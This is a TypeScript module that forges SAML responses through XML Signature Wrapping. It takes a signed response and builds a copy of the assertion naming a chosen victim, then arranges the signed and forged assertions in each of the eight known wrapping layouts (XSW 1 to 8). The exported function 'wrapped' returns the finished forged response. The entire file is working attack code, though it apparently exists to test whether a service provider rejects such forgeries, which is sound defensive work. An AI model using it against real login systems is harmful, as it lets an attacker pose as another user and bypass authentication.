import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const read = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const write = (document: Document) => new XMLSerializer().serializeToString(document);

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** Of the assertion. */
  readonly signature: Element;
  /** A copy of the assertion that says it is about somebody else, without the signature. */
  readonly evil: Element;
}

function partsOf(xml: string, victim: string): Parts {
  const document = read(xml);
  const response = document.documentElement;
  const assertion = one(response, 'Assertion');
  const evil = assertion.cloneNode(true) as Element;
  evil.removeChild(one(evil, 'Signature'));
  evil.setAttribute('ID', '_evil');
  one(evil, 'NameID').textContent = victim;
  for (const value of Array.from(evil.getElementsByTagName('saml:AttributeValue')))
    if (/@wharfedale/.test(value.textContent) && !/^(student|member|staff)@/.test(value.textContent))
      value.textContent = victim;
  return { document, response, assertion, signature: one(assertion, 'Signature'), evil };
}

function one(below: Element, name: string): Element {
  const found = Array.from(below.getElementsByTagName('*')).find((each) => each.localName === name);
  if (!found) throw new Error(`no ${name}`);
  return found;
}

/** The eight ways of hiding a signed assertion behind a forged one, as they are numbered in the literature (XSW 1 to 8). */
const wrappings: readonly ((parts: Parts) => void)[] = [
  // 1: a forged response around, the signed one inside the signature.
  ({ document, response, signature, evil }) => {
    const original = response.cloneNode(true);
    replaceAll(response, evil);
    const kept = signature.cloneNode(true);
    kept.appendChild(original);
    response.insertBefore(kept, response.firstChild);
    void document;
  },
  // 2: a forged response around, the signed one beside the signature.
  ({ response, signature, evil }) => {
    const original = response.cloneNode(true);
    replaceAll(response, evil);
    response.appendChild(signature.cloneNode(true));
    response.appendChild(original);
  },
  // 3: the forged assertion before the signed one.
  ({ response, assertion, evil }) => void response.insertBefore(evil, assertion),
  // 4: the forged assertion around the signed one.
  ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  // 5: the forged assertion carries the signature, the signed one stands behind it.
  ({ response, assertion, signature, evil }) => {
    assertion.removeChild(signature);
    evil.insertBefore(signature, one(evil, 'Subject'));
    response.replaceChild(evil, assertion);
    response.appendChild(assertion);
  },
  // 6: the forged assertion carries the signature, and the signature the signed one.
  ({ response, assertion, signature, evil }) => {
    assertion.removeChild(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, one(evil, 'Subject'));
    signature.appendChild(assertion);
  },
  // 7: the forged assertion in an extension, with the signed one's own id.
  ({ document, response, assertion, evil }) => {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    evil.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  },
  // 8: the forged assertion carries the signature, and an object in it the signed one.
  ({ document, response, assertion, signature, evil }) => {
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    assertion.removeChild(signature);
    response.replaceChild(evil, assertion);
    evil.insertBefore(signature, one(evil, 'Subject'));
    object.appendChild(assertion);
    signature.appendChild(object);
  },
];

function replaceAll(response: Element, evil: Element): void {
  const old = one(response, 'Assertion');
  response.replaceChild(evil, old);
  response.setAttribute('ID', '_forged');
}

/** How many ways `wrapped` knows. */
export const WRAPPINGS = wrappings.length;

/** A response whose assertion is signed, turned against its reader. @param way 1 to `WRAPPINGS`. @param victim whom to pose as. */
export function wrapped(xml: string, way: number, victim: string): string {
  const parts = partsOf(xml, victim);
  wrappings[way - 1]?.(parts);
  return write(parts.document);
}
